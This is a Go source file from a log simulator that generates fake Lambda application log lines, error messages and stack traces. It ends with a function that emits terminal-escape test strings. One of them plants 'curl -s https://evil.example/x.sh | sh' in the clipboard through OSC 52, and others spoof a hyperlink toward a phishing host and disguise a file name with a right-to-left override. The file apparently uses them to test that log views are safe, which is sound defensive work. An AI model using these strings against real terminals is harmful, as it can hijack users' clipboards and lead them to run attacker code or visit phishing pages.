package sim

import (
	"encoding/base64"
	"strconv"
	"strings"
)

// Message pools for application log lines. Placeholders: {id} an order
// or object id, {n} a small count, {ms} a latency, {user} a user id,
// {sku} a product code, {shard} a shard id. They are read-only.
var infoPools = map[string][]string{
	"checkout": {
		"Cart {id} validated: {n} items", "Order {id} created for user {user}",
		"Inventory reserved for {sku} (qty {n})", "Payment intent created for order {id}",
		"Price quote computed in {ms} ms", "Applied promotion SPRING{n} to cart {id}",
	},
	"payments": {
		"Received event charge.succeeded for {id}", "Received event invoice.paid for {id}",
		"Verifying Stripe signature", "Payment {id} captured", "Idempotency key {id} already processed, skipping",
		"Ledger entry written for {id} in {ms} ms",
	},
	"orders": {
		"Processing batch of {n} messages", "Order {id} persisted to DynamoDB",
		"Order {id} status PAID -> FULFILLING", "Deleted {n} messages from queue", "Shipment {id} label requested",
	},
	"image": {
		"Resizing s3://acme-media-uploads-prod/{id}.jpg", "Generated 3 renditions for {id} in {ms} ms",
		"Wrote s3://acme-media-thumbs-prod/{id}_320.webp", "Source image {n}x{n} px, 4.2 MB",
	},
	"auth": {
		"Token verified for user {user}", "Policy generated: Allow execute-api:Invoke",
		"JWKS cache hit", "Token scope read:orders write:cart",
	},
	"report": {
		"Querying Athena for report {id}", "Athena query {id} finished, scanned 1.2 GB in {ms} ms",
		"Rendering {n} pages", "Uploaded report to s3://acme-reports-prod/{id}.pdf",
	},
	"search": {
		"Received {n} records from shard {shard}", "Bulk indexed {n} documents in {ms} ms",
		"Checkpoint advanced for {shard}", "Mapping cache refreshed",
	},
	"stream": {
		"Processing {n} stream records", "Projected order {id} into read model",
		"Skipped REMOVE event for {id}", "Batch done in {ms} ms",
	},
	"clickstream": {
		"ingested batch records={n} bytes={ms}0", "flushed to firehose delivery stream clickstream-prod",
	},
	"cron": {
		"Job started", "Scanning {n} pending rows", "Job finished in {ms} ms", "Nothing to do",
	},
	"pdf": {
		"Launching Chromium", "Rendered invoice {id} ({n} pages) in {ms} ms", "Uploaded PDF for {id}",
	},
	"signup": {
		"Creating account for user {user}", "Welcome email queued for {user}", "Account {user} confirmed",
	},
	"email": {
		"Sending template order-confirmation to {user}", "SES MessageId {id}", "Suppressed bounce address for {user}",
	},
	"generic": {
		"Handling request {id}", "Completed in {ms} ms", "Fetched {n} items from cache", "Config loaded (version {n})",
	},
}

var warnPool = []string{
	"Retrying request after throttling (attempt {n})", "Slow downstream call: {ms} ms",
	"Cache miss for {id}, falling back to DynamoDB", "Deprecated field 'coupon' in payload {id}",
}

// errorDoc is an error's type, message and stack frames.
type errorDoc struct {
	typ   string
	msg   string
	stack []string
}

// errorFor picks the error an invocation of f fails with.
func errorFor(f *function, variant uint8) errorDoc {
	v := int(variant)
	switch f.spec.domain {
	case "payments":
		if v%3 != 0 {
			return errorDoc{"StripeSignatureVerificationError",
				"No signatures found matching the expected signature for payload. Are you passing the raw request body you received from Stripe?",
				[]string{"at Webhook.constructEvent (/var/task/node_modules/stripe/cjs/Webhooks.js:12:19)", "at handler (/var/task/index.js:27:30)"}}
		}
		return errorDoc{"TimeoutError", "Connection to ledger-db timed out after 5000ms",
			[]string{"at Socket.<anonymous> (/var/task/node_modules/pg/lib/client.js:132:18)", "at handler (/var/task/index.js:51:11)"}}
	case "checkout":
		return errorDoc{"InventoryError", "Inventory reservation failed for SKU-" + strconv.Itoa(10000+v*37) + ": ConditionalCheckFailedException",
			[]string{"at reserve (/var/task/src/inventory.js:88:13)", "at async placeOrder (/var/task/src/checkout.js:41:5)", "at async Runtime.handler (/var/task/index.js:19:20)"}}
	}
	switch f.spec.lang {
	case langPython:
		if v%2 == 0 {
			return errorDoc{"KeyError", "'customer_id'", []string{
				`File "/var/task/app.py", line 87, in lambda_handler`, `    customer = record["customer_id"]`}}
		}
		return errorDoc{"ClientError", "An error occurred (ProvisionedThroughputExceededException) when calling the PutItem operation: The level of configured provisioned throughput for the table was exceeded.",
			[]string{`File "/var/task/app.py", line 112, in lambda_handler`, `File "/var/runtime/botocore/client.py", line 1023, in _make_api_call`}}
	case langJava:
		return errorDoc{"java.lang.IllegalStateException", "OpenSearch bulk request rejected (429 Too Many Requests)",
			[]string{"at com.acme.search.BulkWriter.flush(BulkWriter.java:142)", "at com.acme.search.IndexerHandler.handleRequest(IndexerHandler.java:58)"}}
	case langGo:
		return errorDoc{"errorString", "operation error Firehose: PutRecordBatch, https response error StatusCode: 400, ServiceUnavailableException: Slow down.", nil}
	case langDotnet:
		return errorDoc{"System.InvalidOperationException", "Invoice total mismatch for order " + strconv.Itoa(400000+v),
			[]string{"at InvoiceGenerator.Function.FunctionHandler(SQSEvent evnt, ILambdaContext context) in /src/Function.cs:line 64"}}
	}
	return errorDoc{"TypeError", "Cannot read properties of undefined (reading 'id')",
		[]string{"at handler (/var/task/index.js:12:34)", "at Runtime.handleOnceNonStreaming (file:///var/runtime/index.mjs:1173:29)"}}
}

// fillTemplate expands a message template with values drawn from r.
func fillTemplate(t string, r *rng) string {
	if !strings.ContainsRune(t, '{') {
		return t
	}
	var b strings.Builder
	b.Grow(len(t) + 24)
	for {
		i := strings.IndexByte(t, '{')
		if i < 0 {
			b.WriteString(t)
			return b.String()
		}
		j := strings.IndexByte(t[i:], '}')
		if j < 0 {
			b.WriteString(t)
			return b.String()
		}
		b.WriteString(t[:i])
		switch t[i+1 : i+j] {
		case "id":
			b.WriteString(strconv.FormatUint(r.Uint64()%1e9+1e8, 36))
		case "n":
			b.WriteString(strconv.Itoa(1 + r.Intn(48)))
		case "ms":
			b.WriteString(strconv.Itoa(2 + r.Intn(400)))
		case "user":
			b.WriteString("usr_" + strconv.FormatUint(r.Uint64()%1e10, 36))
		case "sku":
			b.WriteString("SKU-" + strconv.Itoa(10000+r.Intn(89999)))
		case "shard":
			b.WriteString("shardId-00000000000" + strconv.Itoa(r.Intn(8)))
		}
		t = t[i+j+1:]
	}
}

// hostileLine is what legacy-cron prints now and then: text that would
// take over a terminal if a view printed it raw. None contains a level
// keyword, so it never counts as an error line.
func hostileLine(variant int) string {
	switch variant % 10 {
	case 0:
		return "clipboard sync \x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x.sh | sh")) + "\x07 done"
	case 1:
		return "\x1b]0;you have been pwned\x07 title set"
	case 2:
		return "\x1b]2;legacy-cron\x1b\\ window renamed"
	case 3:
		return "\x1b[2J\x1b[H screen cleared by report formatter"
	case 4:
		return "see \x1b]8;;https://evil.example/login\x1b\\https://console.aws.amazon.com\x1b]8;;\x1b\\ for details"
	case 5:
		return "\x1b[31;1mred alert\x1b[0m \x1b[42mgreen\x1b[0m status=ok"
	case 6:
		return "uploaded invoice_\u202Efdp.exe to share"
	case 7:
		return "C1 controls: \u009b31m csi \u0090dcs\u009c st \u009d0;osc\u009c"
	case 8:
		return "legacy latin-1 row: caf\xe9 na\xefve \xff\xfe\xc3\x28 end"
	default:
		return "row dump: " + strings.Repeat("0123456789abcdef", 4400) // > 64 KiB
	}
}
